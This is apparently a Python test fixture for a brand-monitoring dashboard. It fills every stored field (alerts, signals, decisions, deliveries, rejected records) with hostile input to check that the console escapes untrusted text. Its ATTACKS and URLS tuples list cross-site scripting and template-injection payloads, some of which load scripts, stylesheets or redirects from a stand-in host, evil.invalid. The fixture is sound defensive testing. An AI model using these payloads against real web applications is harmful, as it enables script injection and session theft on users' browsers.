"""A store full of what strangers may write: every field of every table that the console shows holds an attack."""

import orjson
from clickhouse_connect.driver.client import Client
from msgspec.structs import replace

from agents.store import inserter
from pipeline.rows import rows
from schemas.alert import Alert, Delivery, Driver, Excess
from schemas.brand_log import Evidence
from schemas.codec import encode
from schemas.decision import Decision
from schemas.minute import Minute
from schemas.signal import Signal
from schemas.topics import ALERTS, BRAND_LOG, DECISIONS, MINUTES, SIGNALS
from tests.builders import MINUTE, SIGNAL
from tests.incident_life import crisis

ATTACKS = (
    "<script>window.pwned = 1</script>",
    "\"><img src=x onerror='window.pwned = 1'>",
    "'><svg onload=window.pwned=1>",
    "</title></textarea></bdi></blockquote><script src=//evil.invalid/x.js></script>",
    '" autofocus onfocus="window.pwned = 1" x="',
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.invalid/x.css>",
    "<base href=//evil.invalid/><meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<form action=//evil.invalid/><input name=csrf><button>",
    "{{ 7 * 191 }}{% raw %}${7 * 191}",
    "<!--<script>/*--></script><math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>",
    "\u202e\u2066<b>reversed</b>\u0000\u0007",
    "java\nscript:window.pwned=1",
    "文" * 400 + "W" * 400,
)
URLS = (
    "javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "https://evil.invalid/\"onclick=x'",
)
BRAND = "acme/<img src=x onerror=window.pwned=1>\"'"
INCIDENT = "incident-of-strangers"


def alert(at: int, **more: object) -> Alert:
    """An incident that has paged, of which a stranger wrote every word."""
    posts = tuple(
        Evidence(
            post_uid=f"x:{number}", partition=0, offset=number, at=at, platform="x", author_key=attack, lang="other",
            text=attack[:500], url=URLS[number % len(URLS)], polarity=-1.0, severity=3, reach=7, why="first",
        )
        for number, attack in enumerate(ATTACKS[:10])
    )  # fmt: skip
    drivers = tuple(Driver(facet=f"product:{attack}"[:200], share=0.9, usual=None, count=3) for attack in ATTACKS[:8])
    known = {
        "alert_id": f"{INCIDENT}-last", "incident_id": INCIDENT, "brand": BRAND, "at": at, "since": at - 30 * MINUTE,
        "started": at - 29 * MINUTE, "counted_from": at - 30 * MINUTE, "severity": "critical", "paged": True,
        "evidence": posts, "unit": ATTACKS[0], "detectors": (ATTACKS[1], "complaint_volume"), "facets": (ATTACKS[2],),
        "excess": Excess(measure="complaints", counted=9, expected=1.0, drivers=drivers), "rules": ATTACKS[3],
        "categories": {ATTACKS[4]: 0.8, "safety": 0.2}, "suspected_flood": True,
    }  # fmt: skip
    return replace(crisis().alerts[0], **{**known, **more})


def fill(client: Client, now: int) -> None:
    """Put it all into the tables; ``now`` is ms since 1970."""
    insert, lines = inserter(client), dict[str, list[bytes]]()
    last = alert(now - MINUTE)
    before = replace(last, incident_id="before", alert_id="before", event="resolved", at=now - 90 * MINUTE,
                     started=now - 120 * MINUTE, since=now - 120 * MINUTE)  # fmt: skip
    records = [(ALERTS.name, last), (ALERTS.name, before)]
    records += [(MINUTES.name, _minute(now - number * MINUTE)) for number in range(2, 60)]
    records += [(DECISIONS.name, _decision(number, attack, now)) for number, attack in enumerate(ATTACKS)]
    records += [(SIGNALS.name, _signal(number, attack, now)) for number, attack in enumerate(ATTACKS)]
    records += [(BRAND_LOG.name, _delivery(number, attack, now)) for number, attack in enumerate(ATTACKS)]
    for topic, record in records:
        found = rows(topic, encode(record))
        assert found.unusable == []
        for table, some in found.lines.items():
            lines.setdefault(table, []).extend(some)
    lines["rejected"] = [orjson.dumps(_letter(number, attack, now)) for number, attack in enumerate(ATTACKS)]
    lines["influence"] = [orjson.dumps(_leader(number, attack, now)) for number, attack in enumerate(ATTACKS)]
    lines["source_progress"] = [orjson.dumps(_progress(now))]
    for table, some in lines.items():
        insert(table, b"\n".join(some), f"hostile {table}")


def _minute(at: int) -> Minute:
    names = {"complaint_volume": 1.5, ATTACKS[1]: 2.0}
    return Minute(brand=BRAND, minute=at - at % MINUTE, bucket_ms=MINUTE, posts=9, negatives=5, complaints=4,
                  observed=names, expected=names)  # fmt: skip


def _decision(number: int, attack: str, now: int) -> Decision:
    return Decision(
        decision_id=f"d{number}", brand=BRAND, at=now - number * MINUTE, outcome="applied", reason="commanded",
        incident_id=INCIDENT, severity="critical", command="note", command_id=f"c{number}", by=attack, text=attack,
        rules="r",
    )  # fmt: skip


def _signal(number: int, attack: str, now: int) -> Signal:
    return replace(
        SIGNAL, post_uid=f"x:{number}", event_time=now - 10 * MINUTE, brands=(BRAND,), author_key=attack, text=attack,
        url=URLS[number % len(URLS)], reach=number,
    )  # fmt: skip


def _delivery(number: int, attack: str, now: int) -> Delivery:
    return Delivery(
        page_id=f"p{number}", dedup_key=INCIDENT, brand=BRAND, target=attack, status="refused", attempts=2,
        requested_at=now - 2_000, finished_at=now - 1_000, detail=attack,
    )  # fmt: skip


def _letter(number: int, attack: str, now: int) -> dict[str, object]:
    return {
        "topic": attack, "partition": 0, "offset": number, "reason": "invalid_json", "detail": attack, "at": now,
        "bytes": len(attack), "sha256": str(number), "payload": attack,
    }  # fmt: skip


def _leader(number: int, attack: str, now: int) -> dict[str, object]:
    sums = [float(number), 1.0, 1.0]
    reasons = [
        {"actor": "0123456789abcdef", "at": now, "added": 0.5, "kind": attack},
        attack,
    ]  # the latter is no reason
    return {
        "author_key": attack, "brand": "", "at": now, "lasting": 1.0, "spreading": 1.0, "h": 1, "every": sums,
        "trusted": sums, "reasons": orjson.dumps(reasons[: 1 + number % 2]).decode(), "partition": 0,
        "offset": number,
    }  # fmt: skip


def _progress(now: int) -> dict[str, object]:
    counts = dict.fromkeys(("read", "ticks", "rejected", "unmatched", "duplicates", "expired", "withdrawn"), 3)
    return {"source": 0, "sources": 1, "offset": 9, "watermark": now, **counts}


def more(store: Client, count: int, now: int) -> None:
    """So many incidents of other brands that are open, too, each a millisecond older than the one before."""
    made = [
        alert(now - one, alert_id=f"a{one}", incident_id=f"i{one}", brand=f"brand {one}", severity="warning")
        for one in range(count)
    ]
    lines = [line for one in made for line in rows(ALERTS.name, encode(one)).lines["alerts"]]
    inserter(store)("alerts", b"\n".join(lines), "many")
